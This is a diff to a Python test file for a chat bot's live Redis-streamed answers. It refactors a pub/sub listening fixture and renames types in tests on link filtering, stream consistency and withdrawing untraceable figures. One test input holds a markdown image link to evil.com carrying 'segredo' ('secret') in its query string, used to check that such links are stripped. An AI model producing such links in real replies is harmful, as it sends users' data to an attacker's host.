@@ -24,6 +24,7 @@ from tests.bot.answering import answer_message
 from tests.bot.conftest import Door, DoorMaker
 from tests.bot.door_requests import assert_problem
 from tests.fakes import FixedClock, ScriptedProvider
+from tests.listening import Ear, listening
 
 KEY = "question-1"
 
@@ -180,29 +181,10 @@ def test_stream_false_is_an_answer_as_ever(make_door: DoorMaker) -> None:
 # The worker's end.
 
 
-@dataclass
-class Line:
-    """A Redis channel somebody listens to."""
-
-    redis: Redis
-    name: str
-    heard: Any
-
-    def messages(self) -> list[dict[str, Any]]:
-        found = []
-        while (message := self.heard.get_message(timeout=0.3)) is not None:
-            if message["type"] == "message":
-                found.append(json.loads(message["data"]))
-        return found
-
-
 @pytest.fixture
-def line(redis_url: str) -> Iterator[Line]:
-    name = live_channel(uuid4(), "q")
-    with Redis.from_url(redis_url) as redis, redis.pubsub() as heard:
-        heard.subscribe(name)
-        assert heard.get_message(timeout=5)["type"] == "subscribe"
-        yield Line(redis, name, heard)
+def line(redis_url: str) -> Iterator[Ear]:
+    with listening(redis_url, live_channel(uuid4(), "q")) as ear:
+        yield ear
 
 
 def _shown(messages: list[dict[str, Any]]) -> list[str]:
@@ -213,7 +195,7 @@ def _shown(messages: list[dict[str, Any]]) -> list[str]:
     return seen
 
 
-def test_no_link_is_ever_seen_that_the_reply_would_not_hold(line: Line) -> None:
+def test_no_link_is_ever_seen_that_the_reply_would_not_hold(line: Ear) -> None:
     live = LiveWords(line.redis).listen(line.name, tame_links)
     assert live is not None
     text = "Veja ![gráfico](https://evil.com/?q=segredo) e [aqui](https://evil.com/x y) ou evil.com agora. "
@@ -241,7 +223,7 @@ def _run(provider: ScriptedProvider, live: LiveTurn) -> str:
     return agent.run(turn, ScratchJournal(), listener=live).text
 
 
-def test_an_agent_that_is_heard_answers_what_it_answers_unheard(line: Line) -> None:
+def test_an_agent_that_is_heard_answers_what_it_answers_unheard(line: Ear) -> None:
     live = LiveWords(line.redis).listen(line.name, str)
     assert live is not None
     words = "Bom dia, Ana, e obrigada pela pergunta de hoje. " * 3
@@ -252,7 +234,7 @@ def test_an_agent_that_is_heard_answers_what_it_answers_unheard(line: Line) -> N
     assert len(_shown(messages)[-1]) > len(words) / 2
 
 
-def test_a_draft_whose_figures_nobody_can_trace_is_taken_back_before_the_eyes(line: Line) -> None:
+def test_a_draft_whose_figures_nobody_can_trace_is_taken_back_before_the_eyes(line: Ear) -> None:
     live = LiveWords(line.redis).listen(line.name, str)
     assert live is not None
     assert "10,00" not in _run(ScriptedProvider([LINE * 2, "Não sei quanto foi, e não vou adivinhar agora."]), live)
@@ -261,7 +243,7 @@ def test_a_draft_whose_figures_nobody_can_trace_is_taken_back_before_the_eyes(li
     assert "10,00" not in seen[-1]
 
 
-def test_an_agent_whose_stream_ends_too_early_has_not_answered(line: Line) -> None:
+def test_an_agent_whose_stream_ends_too_early_has_not_answered(line: Ear) -> None:
     class Cut(ScriptedProvider):
         def stream(self, request: Any) -> Iterator[Any]:
             yield LINE
